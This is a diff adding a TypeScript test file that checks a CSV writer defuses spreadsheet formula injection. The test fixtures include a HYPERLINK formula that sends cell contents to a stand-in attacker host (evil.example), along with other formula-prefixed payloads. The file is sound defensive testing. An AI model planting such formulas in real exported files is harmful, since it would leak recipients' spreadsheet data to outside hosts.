@@ -1,0 +1,33 @@
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { csvStream, writeCsv } from "@/lib/csv/write-csv";
+
+const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1", "\r=1", "  =1+1", " @cmd"];
+
+const cells = (csv: string) => parse(csv.replace(/^\uFEFF/, "")) as string[][];
+
+describe("writeCsv", () => {
+  it("spreadsheet mode puts an apostrophe before every formula-looking text cell, leaves other text and numbers as they are, and starts with a BOM", () => {
+    const csv = writeCsv("spreadsheet", ["value", "n"], [...FORMULAS.map((f) => [f, -5]), ["Plain, with a comma", 0], ["a=b", null]]);
+    expect(csv.startsWith("\uFEFFvalue,n\r\n")).toBe(true);
+    const rows = cells(csv).slice(1);
+    expect(rows.slice(0, FORMULAS.length).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
+    expect(rows.slice(0, FORMULAS.length).every((r) => r[1] === "-5")).toBe(true);
+    expect(rows.slice(FORMULAS.length)).toEqual([["Plain, with a comma", "0"], ["a=b", ""]]);
+  });
+
+  it("machine mode writes every value exactly, with no BOM", () => {
+    const csv = writeCsv("machine", ["value"], FORMULAS.map((f) => [f]));
+    expect(csv.startsWith("value\r\n")).toBe(true);
+    expect(cells(csv).slice(1).map((r) => r[0])).toEqual(FORMULAS);
+  });
+
+  it("streams the same spreadsheet-safe text as the in-memory writer", async () => {
+    const stream = csvStream("spreadsheet", ["value"]);
+    for (const f of FORMULAS) stream.write([f]);
+    stream.end();
+    let out = "";
+    for await (const chunk of stream) out += String(chunk);
+    expect(out).toBe(writeCsv("spreadsheet", ["value"], FORMULAS.map((f) => [f])));
+  });
+});
